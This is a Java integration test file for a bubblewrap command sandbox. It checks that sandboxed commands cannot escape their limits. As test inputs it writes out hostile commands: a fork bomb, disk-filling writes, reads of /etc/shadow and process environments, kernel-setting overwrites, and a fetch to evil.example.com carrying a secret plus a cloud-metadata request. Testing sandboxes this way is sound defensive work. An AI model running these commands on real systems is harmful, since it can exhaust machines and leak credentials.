package io.codedeveloper.job.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.codedeveloper.job.registry.PlayedProxy;
import io.codedeveloper.job.registry.RegistryAccess;
import io.codedeveloper.job.sandbox.CommandSandbox.CommandRequest;
import io.codedeveloper.job.sandbox.CommandSandbox.CommandResult;
import io.codedeveloper.job.sandbox.CommandSandbox.Network;
import io.codedeveloper.testing.FaultRow;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

@Exhausting
final class BubblewrapSandboxIT extends CommandSandboxContract {
  private static final Path JAVA_HOME = Path.of(System.getProperty("java.home"));

  @BeforeAll
  static void needsBubblewrap() {
    InstalledBubblewrap.assume();
  }

  @Override
  CommandSandbox sandbox(Limits limits) {
    return ((BubblewrapSandbox)
            Sandboxes.choose("bubblewrap", Toolbox.of(JAVA_HOME), List.of()).orRefuse())
        .with(limits);
  }

  @Test
  @FaultRow("S3")
  void commandsRunAsAUserThatOwnsNothingElseWhereRootStartsThem() throws IOException {
    assumeTrue("root".equals(System.getProperty("user.name")), "only root can be another user");

    assertThat(run("id -u; touch mine").output()).isEqualTo("65534\n");
    assertThat(Files.getAttribute(tree.resolve("mine"), "unix:uid"))
        .isEqualTo(BubblewrapFeatures.OTHER_USER);
    assertThat(sandbox().inForce()).contains("as a user of their own", "2048 processes");
  }

  @Test
  @FaultRow("S3")
  void kernelRefusesAForkBombMoreProcessesThanTheLimit() {
    String marker = marker();
    AtomicInteger most = new AtomicInteger();
    BooleanSupplier counting =
        () -> {
          most.accumulateAndGet(running(marker).size(), Math::max);
          return false;
        };

    CommandResult result =
        sandbox(SmallLimits.processes(60))
            .run(
                request(
                    "bomb() { bomb & bomb & sleep " + marker + "; }; bomb",
                    Map.of(),
                    TIME_TO_BEGIN,
                    counting));

    assertThat(result.output()).contains("Cannot fork");
    assertThat(most.get()).isLessThanOrEqualTo(60);
    assertThat(running(marker)).isEmpty();
  }

  @Test
  @FaultRow("S6")
  void directoriesInMemoryAreLimited() {
    CommandResult result =
        run("head -c 2000000000 /dev/zero > /tmp/a; head -c 2000000000 /dev/zero > /dev/shm/a");

    assertThat(result.succeeded()).isFalse();
    assertThat(result.output()).contains("No space left on device");
    assertThat(run("touch /dev/a || echo refused").output()).endsWith("refused\n");
  }

  @Test
  void networkOfTheMachineIsOutOfReach() throws IOException {
    try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      String connect = connectTo(listener);

      assertThat(run(connect).output()).isEqualTo("refused\n");
      assertThat(run(connect, Network.REGISTRIES).output()).endsWith("refused\n");
    }
  }

  @Test
  void setupReachesARegistryAndNothingElse() throws IOException {
    try (PlayedProxy upstream = PlayedProxy.start("a package")) {
      RegistryAccess registries =
          new RegistryAccess("registry.example.org", Optional.of(upstream.address()));
      CommandSandbox sandbox = ((BubblewrapSandbox) sandbox(Limits.usual())).with(registries);
      Files.writeString(tree.resolve("Fetch.java"), FETCH);

      CommandResult result =
          sandbox.run(
              new CommandRequest(
                  "java Fetch.java http://registry.example.org/p http://evil.example.com/?x=secret"
                      + " http://169.254.169.254/computeMetadata/v1/ http://127.0.0.1:"
                      + upstream.address().getPort()
                      + "/ 2>&1 | grep -v Picked",
                  tree,
                  List.of(tree),
                  List.of(),
                  Map.of(),
                  Network.REGISTRIES,
                  LONG,
                  () -> false));

      assertThat(result.output().lines())
          .containsExactly("200 a package", "403", "403", "no connection");
      assertThat(upstream.asked()).containsExactly("GET http://registry.example.org/p HTTP/1.1");
      assertThat(result.remarks())
          .hasSize(3)
          .contains("it fetched from registry.example.org")
          .anyMatch(remark -> remark.contains("CODE_DEVELOPER_REGISTRIES=evil.example.com"));
    }
  }

  private static final String FETCH =
      """
      void main(String[] urls) throws Exception {
        for (var url : urls) {
          try {
            var connection =
                (java.net.HttpURLConnection) java.net.URI.create(url).toURL().openConnection();
            var code = connection.getResponseCode();
            IO.println(code == 200
                ? code + " " + new String(connection.getInputStream().readAllBytes())
                : "" + code);
          } catch (java.io.IOException e) {
            IO.println("no connection");
          }
        }
      }
      """;

  @Test
  void loopbackOfItsOwnWorks() throws IOException {
    Files.writeString(
        tree.resolve("Own.java"),
        """
        void main() throws Exception {
          var own = java.net.InetAddress.getLocalHost();
          try (var server = new java.net.ServerSocket(0, 1, own);
              var client = new java.net.Socket(own, server.getLocalPort())) {
            IO.println(client.isConnected() + " " + System.getProperty("user.home"));
          }
        }
        """);

    assertThat(run("java Own.java").output()).isEqualTo("true /home/developer\n");
  }

  @Test
  void processesOfTheMachineAreOutOfSight() {
    long self = ProcessHandle.current().pid();

    CommandResult result = run("ls -d /proc/[0-9]* | wc -l; cat /proc/*/environ | tr '\\0' '\\n'");

    assertThat(Integer.parseInt(result.output().lines().findFirst().orElseThrow().strip()))
        .isLessThan(10);
    assertThat(run("kill -0 " + self + " 2>/dev/null; echo $?").output())
        .as("no such process, or another one of its own")
        .isIn("0\n", "1\n");
    assertThat(run("readlink /proc/1/root").output()).isIn("", "/\n");
    System.getenv()
        .forEach((name, value) -> {
          if (value.length() > 12 && !name.equals("JAVA_HOME") && !name.equals("PATH")) {
            assertThat(result.output()).doesNotContain(name + "=" + value);
          }
        });
  }

  @Test
  void nothingOutsideTheWorkTreeCanBeWritten() throws IOException {
    Path outside = Files.createDirectory(directory.resolve("outside"));

    String targets =
        "/usr/a /etc/a /opt/a /bin/a /a /proc/a /var/a /home/a /run/a " + outside + "/a";
    CommandResult result =
        run("for f in " + targets + "; do touch $f 2>/dev/null && echo wrote $f; done; true");

    assertThat(result.output()).isEmpty();
    assertThat(outside).isEmptyDirectory();
  }

  @Test
  void kernelSettingsCannotBeWritten() {
    CommandResult result =
        run(
            "for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/hostname /proc/sysrq-trigger /proc/irq/default_smp_affinity;"
                + " do sh -c \"cat $f > copy; cat copy > $f\" 2>/dev/null && echo wrote $f; done; true");

    assertThat(result.output()).isEmpty();
  }

  @Test
  void noCapabilitiesAreLeft() {
    assertThat(run("grep CapEff /proc/self/status").output()).endsWith("\t0000000000000000\n");
    assertThat(run("mount -t tmpfs none /tmp 2>/dev/null || echo refused").output())
        .isEqualTo("refused\n");
    assertThat(run("unshare -r true 2>/dev/null || echo refused").output()).isEqualTo("refused\n");
  }

  @Test
  void homeDirectoriesAndSocketsAreOutOfSight() throws IOException {
    Path secret = Files.writeString(directory.resolve("secret"), "password");

    assertThat(
            run("cat " + secret + " 2>/dev/null; ls -A /home/developer /run /root 2>/dev/null")
                .output())
        .doesNotContain("password")
        .doesNotContain(".bashrc")
        .doesNotContain(".m2");
    assertThat(
            run("cat /etc/shadow /etc/ssl/private/* 2>/dev/null; ls "
                    + System.getProperty("user.home"))
                .succeeded())
        .isFalse();
  }

  @Test
  void hiddenDirectoryIsEmptyThoughItsSurroundingsAreShown() throws IOException {
    Path shown = Files.createDirectory(directory.resolve("shown"));
    Path data = Files.createDirectory(shown.resolve("data"));
    Path git = Files.createDirectory(data.resolve("git"));
    Files.writeString(git.resolve("config"), "password");
    Path database = Files.writeString(shown.resolve("database"), "password");
    Path inner = Files.createDirectory(data.resolve("tree"));
    Files.writeString(inner.resolve("file"), "visible");
    CommandSandbox sandbox =
        Sandboxes.choose(
                "bubblewrap",
                Toolbox.of(JAVA_HOME),
                List.of(data, database, directory.resolve("none")))
            .orRefuse();

    CommandResult result =
        sandbox.run(
            new CommandRequest(
                "ls " + data + "; cat file; cat " + git + "/config " + database + " 2>/dev/null",
                inner,
                List.of(inner),
                List.of(shown),
                Map.of(),
                Network.NONE,
                LONG,
                () -> false));

    assertThat(result.output()).isEqualTo("tree\nvisible");
  }

  @Test
  void readableDirectoryCannotBeWritten() throws IOException {
    Path cache = Files.createDirectory(directory.resolve("cache"));

    CommandResult result =
        sandbox()
            .run(
                new CommandRequest(
                    "touch " + cache + "/a",
                    tree,
                    List.of(tree),
                    List.of(cache),
                    Map.of(),
                    Network.NONE,
                    LONG,
                    () -> false));

    assertThat(result.succeeded()).isFalse();
    assertThat(cache).isEmptyDirectory();
  }

  @Test
  void linkPutInPlaceOfAReadableDirectoryShowsNothing() throws IOException {
    Path outside = Files.createDirectory(directory.resolve("outside"));
    Files.writeString(outside.resolve("secret"), "password");
    Path link = Files.createSymbolicLink(tree.resolve("cache"), outside);

    CommandResult result =
        sandbox()
            .run(
                new CommandRequest(
                    "cat cache/secret",
                    tree,
                    List.of(tree),
                    List.of(link),
                    Map.of(),
                    Network.NONE,
                    LONG,
                    () -> false));

    assertThat(result.output()).doesNotContain("password");
  }

  @Test
  @FaultRow("S2")
  void commandDiesWithTheProcessThatRunsIt() throws Exception {
    String marker = marker();
    Process daemon =
        new ProcessBuilder(
                JAVA_HOME.resolve("bin/java").toString(),
                "-Djava.io.tmpdir=" + directory,
                "-cp",
                System.getProperty("java.class.path"),
                SleepingDaemon.class.getName(),
                tree.toString(),
                marker)
            .redirectErrorStream(true)
            .redirectOutput(directory.resolve("daemon.txt").toFile())
            .start();
    try {
      Polling.until(() -> Files.exists(tree.resolve("started")) || !daemon.isAlive());
      assertThat(running(marker))
          .as(Files.readString(directory.resolve("daemon.txt")))
          .isNotEmpty();
    } finally {
      daemon.destroyForcibly().waitFor(1, TimeUnit.MINUTES);
    }

    Polling.until(() -> running(marker).isEmpty());
    assertThat(running(marker)).isEmpty();
    assertThat(left(daemon.pid())).as("what the killed process could not tidy up").isNotEmpty();
    ScratchDirectory.removeAbandoned(directory);
    assertThat(left(daemon.pid())).isEmpty();
  }

  private List<Path> left(long process) throws IOException {
    try (var entries = Files.list(directory)) {
      return entries
          .filter(entry -> entry.getFileName().toString().startsWith("command-" + process + "-"))
          .toList();
    }
  }

  private CommandResult run(String commandLine, Network network) {
    return sandbox()
        .run(
            new CommandRequest(
                commandLine, tree, List.of(tree), List.of(), Map.of(), network, LONG, () -> false));
  }

  private String connectTo(ServerSocket listener) throws IOException {
    Files.writeString(
        tree.resolve("Connect.java"),
        """
        void main(String[] arguments) {
          try (var socket = new java.net.Socket("127.0.0.1", Integer.parseInt(arguments[0]))) {
            IO.println("connected");
          } catch (java.io.IOException e) {
            IO.println("refused");
          }
        }
        """);
    return "java Connect.java " + listener.getLocalPort();
  }
}
